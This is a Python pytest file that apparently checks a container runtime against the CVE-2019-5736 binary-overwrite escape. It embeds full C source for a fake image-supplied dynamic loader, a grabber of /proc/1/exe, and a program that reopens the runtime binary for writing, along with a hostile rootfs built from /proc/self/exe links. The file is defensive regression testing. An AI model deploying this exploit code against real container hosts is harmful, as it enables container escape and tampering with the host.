# SPDX-License-Identifier: LGPL-2.1-or-later
"""The runtime binary cannot be reached for writing from inside a container
(the CVE-2019-5736 pattern).

A process that the runtime turns into the container process is, until its
final execve, an instance of the runtime's binary: its /proc/self/exe is the
host file.  If the container's executable is a link to /proc/self/exe (or a
script whose interpreter is), the kernel executes the runtime binary again,
and -- if the binary is dynamic -- runs the loader named by its PT_INTERP,
resolved in the container's rootfs, which the image controls.  Our "loader"
(a raw-syscall static program) opens /proc/self/exe read-only, then execs a
second program that keeps re-opening that fd for writing until no process
executes the binary any more (ETXTBSY ends when the detached runtime exits).

A static runtime (the release build) loads nothing from the image: the
entrypoint just runs the runtime, which cannot be made to run the image's code.
What remains is grabbing /proc/1/exe while pid 1 is the runtime (here it
blocks opening a FIFO named by --log): the fd must not be the host file.

The runtime under test is a private copy of the binary, so a successful
attack damages only the copy; the tests assert the copy and the real binary
keep their hashes and that the write-open failed (or reached something that
is not the host file, e.g. a sealed memfd copy).
"""
import errno
import os
import shutil

import pytest

import celltest
import hostwatch
from payload import compile_into, parse_report
from secrun import read, wait_out

LOADER = "/lib64/ld-linux-x86-64.so.2"   # the PT_INTERP of a Debian x86-64 binary
MARK = "CELLTEST-EXE-OVERWRITE"

# A dynamic loader shipped by the image: no libc (it runs with the runtime
# binary's auxv), raw syscalls only.
FAKE_LOADER = r"""
static long sc(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static unsigned long slen(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static void say(const char *s)
{
	sc(SYS_write, 1, (long)s, (long)slen(s));
}

static char *fmt_long(char *end, long v)
{
	unsigned long u = v < 0 ? -(unsigned long)v : (unsigned long)v;
	*--end = '\0';
	do
		*--end = (char)('0' + u % 10);
	while (u /= 10);
	if (v < 0)
		*--end = '-';
	return end;
}

static void say_num(const char *key, long v)
{
	char buf[32];
	say(key);
	say(" ");
	say(fmt_long(buf + sizeof(buf), v));
	say("\n");
}

void loader_main(long *sp)
{
	long argc = sp[0];
	char **envp = (char **)(sp + 1 + argc + 1);
	char buf[32], link[512];
	long out = sc(SYS_open, (long)"/out/report", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (out >= 0)
		sc(SYS_dup2, out, 1, 0), sc(SYS_close, out, 0, 0);
	/* "hold": stay the runtime binary (for another process to grab it as
	 * /proc/1/exe) until /out/go exists, then become sleep */
	if (argc > 1 && ((char **)(sp + 1))[1][0] == 'h') {
		struct { long s, ns; } tick = { 0, 50000000 };
		for (int i = 0; i < 300 && sc(SYS_access, (long)"/out/go", F_OK, 0) < 0; i++)
			sc(SYS_nanosleep, (long)&tick, 0, 0);
		char *argv[] = { "sleep", "30", 0 };
		sc(SYS_execve, (long)"/bin/sleep", (long)argv, (long)envp);
		sc(SYS_exit_group, 98, 0, 0);
	}
	long fd = sc(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);

	say_num("exe_open", fd);
	say_num("exe_write_running", sc(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0));
	if (fd >= 0) {
		char *arg = fmt_long(buf + sizeof(buf), fd);
		char path[48] = "/proc/self/fd/";
		for (int i = 0; arg[i]; i++)
			path[14 + i] = arg[i], path[15 + i] = '\0';
		long n = sc(SYS_readlink, (long)path, (long)link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		say("exe_link ");
		say(link);
		say("\n");
		char *argv[] = { "exe-overwrite", arg, 0 };
		sc(SYS_execve, (long)"/usr/local/bin/exe-overwrite", (long)argv, (long)envp);
		say("exec_overwrite failed\n");
	}
	sc(SYS_exit_group, 99, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall loader_main\n\thlt\n");
"""

OVERWRITE = r"""
int main(int argc, char **argv)
{
	int fd = argc > 1 ? atoi(argv[1]) : -1;
	char path[64];
	struct stat st;

	if (fstat(fd, &st) == 0)
		report("exe_ino", "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* ETXTBSY while some process still executes it: wait for the runtime to exit */
	int w = -1;
	for (int i = 0; i < 500; i++) {
		w = open(path, O_WRONLY | O_APPEND);
		if (w >= 0 || errno != ETXTBSY)
			break;
		usleep(20000);
	}
	if (outcome("exe_reopen_write", w) == 0)
		outcome("exe_append", write(w, "MARK", 4));
	report("done", "");
	return 0;
}
""".replace('"MARK", 4', f'"{MARK}", {len(MARK)}')


GRABBER = r"""
/* Another process of the container takes pid 1's executable -- the
 * runtime binary, if pid 1 is an instance of it -- lets pid 1 move on,
 * and hands the fd to exe-overwrite. */
int main(int argc, char **argv)
{
	char link[512] = "", arg[16];
	freopen("/out/report", "a", stdout);
	int fd = open("/proc/1/exe", O_RDONLY);
	outcome("exe_open", fd);
	ssize_t n = readlink("/proc/1/exe", link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	report("exe_link", "%s", link);
	close(open("/out/go", O_WRONLY | O_CREAT, 0644));
	if (fd < 0) {
		report("done", "");
		return 0;
	}
	snprintf(arg, sizeof(arg), "%d", fd);
	execl("/usr/local/bin/exe-overwrite", "exe-overwrite", arg, (char *)NULL);
	report("exec_overwrite", "failed");
	return 1;
}
"""


def is_static(path):
    """No PT_INTERP program header: nothing is loaded at exec."""
    import struct
    with open(path, "rb") as f:
        head = f.read(64)
        phoff, = struct.unpack_from("<Q", head, 0x20)
        phentsize, phnum = struct.unpack_from("<HH", head, 0x36)
        f.seek(phoff)
        table = f.read(phentsize * phnum)
    return all(struct.unpack_from("<I", table, i * phentsize)[0] != 3 for i in range(phnum))


def errname(value):
    """"-26" -> "ETXTBSY"; a non-negative result -> "ok"."""
    v = int(value)
    return "ok" if v >= 0 else errno.errorcode.get(-v, str(v))


@pytest.fixture
def runtime_copy(session, runtime):
    """A Runtime driving a private copy of the binary (the attack's target)."""
    d = os.path.join(session.base, f"exe-{session.new_id()}")
    os.makedirs(d)
    exe = os.path.join(d, "cellrun")
    shutil.copy2(os.path.realpath(session.binary), exe)
    rt = celltest.Runtime(session)
    rt.binary = exe
    yield rt
    rt.cleanup()
    runtime.ids.extend(rt.ids)   # and again through the real binary on teardown
    shutil.rmtree(d, ignore_errors=True)


def hostile_rootfs(bundle):
    """Private rootfs with the fake loader, the overwriter and /bin/evil links."""
    rootfs = bundle.private_rootfs()
    compile_into(rootfs, "exe-overwrite", OVERWRITE)
    compile_into(rootfs, "exe-grabber", GRABBER)
    built = compile_into(rootfs, "fake-ld", FAKE_LOADER,
                         flags=["-nostdlib", "-fno-stack-protector", "-fno-builtin"])
    dest = os.path.join(rootfs, LOADER.lstrip("/"))
    os.makedirs(os.path.dirname(dest), exist_ok=True)
    os.replace(os.path.join(rootfs, built.lstrip("/")), dest)
    os.symlink("/proc/self/exe", os.path.join(rootfs, "bin/evil"))
    with open(os.path.join(rootfs, "bin/evil-script"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(os.path.join(rootfs, "bin/evil-script"), 0o755)
    return rootfs


def assert_not_overwritten(session, rt, before, report, r):
    exe = rt.binary
    assert hostwatch.sha256(exe) == before[exe], f"runtime binary modified!\n{r}"
    assert hostwatch.sha256(session.binary) == before[session.binary]
    with open(exe, "rb") as f:
        assert MARK.encode() not in f.read()
    if "exe_write_running" in report:   # the direct open, while it runs
        assert errname(report["exe_write_running"]) != "ok", r
    st = os.stat(exe)
    assert report.get("exe_ino") != f"{st.st_dev}:{st.st_ino}", \
        f"a container process holds the host runtime binary\n{r}"


def hashes(session, rt):
    return {p: hostwatch.sha256(p) for p in (rt.binary, session.binary)}


def attack_report(bundle, r):
    """The attack's report (out/report), once it has tried everything."""
    try:
        return parse_report(wait_out(bundle, "report", want="done", timeout=15))
    except AssertionError:
        path = os.path.join(bundle.out, "report")
        got = read(path) if os.path.exists(path) else "(no report)"
        raise AssertionError(f"the attack did not finish: {got}\n{r}") from None


def test_entrypoint_is_proc_self_exe(session, runtime_copy, bundle):
    """process.args[0] is a symlink to /proc/self/exe (detached: the runtime
    exits while the container lives on)."""
    hostile_rootfs(bundle)
    before = hashes(session, runtime_copy)
    bundle.args("/bin/evil")
    r = runtime_copy.run(bundle, detach=True, timeout=20)
    assert r.rc == 0 or r.err_lines, r   # refusing to start it would do too
    # static: the runtime runs as the entrypoint, prints its usage and exits
    report = attack_report(bundle, r) if r.rc == 0 and not is_static(runtime_copy.binary) else {}
    assert_not_overwritten(session, runtime_copy, before, report, r)


def test_exec_script_interpreter_is_proc_self_exe(session, runtime_copy, bundle):
    """`exec -d` of a script whose #! line names /proc/self/exe."""
    hostile_rootfs(bundle)
    before = hashes(session, runtime_copy)
    bundle.args("sleep", "30")
    runtime_copy.run(bundle, detach=True, timeout=20).ok()
    r = runtime_copy.exec(bundle.id, "/bin/evil-script", opts=["-d"], timeout=20)
    assert r.rc == 0 or r.err_lines, r
    report = attack_report(bundle, r) if r.rc == 0 and not is_static(runtime_copy.binary) else {}
    assert_not_overwritten(session, runtime_copy, before, report, r)


def test_other_process_opens_proc_1_exe(session, runtime_copy, bundle):
    """pid 1 is the runtime binary (entrypoint -> /proc/self/exe, held by the
    image's loader); an `exec`'d process opens /proc/1/exe, lets pid 1 exec
    away, and re-opens the fd for writing once the runtime has exited."""
    rootfs = hostile_rootfs(bundle)
    before = hashes(session, runtime_copy)
    bundle.args("/bin/evil", "hold")
    if is_static(runtime_copy.binary):
        # the image's loader is not used: pid 1 stays the runtime while it
        # waits for a reader of its log FIFO (the grabber finds none)
        os.mkfifo(os.path.join(rootfs, "log.fifo"))
        bundle.args("/bin/evil", "--log", "/log.fifo", "state", "x")
    r = runtime_copy.run(bundle, detach=True, timeout=20)
    assert r.rc == 0 or r.err_lines, r
    if r.rc == 0:
        r = runtime_copy.exec(bundle.id, "/usr/local/bin/exe-grabber", opts=["-d"], timeout=20)
        assert r.rc == 0, r
    report = attack_report(bundle, r) if r.rc == 0 else {}
    assert_not_overwritten(session, runtime_copy, before, report, r)
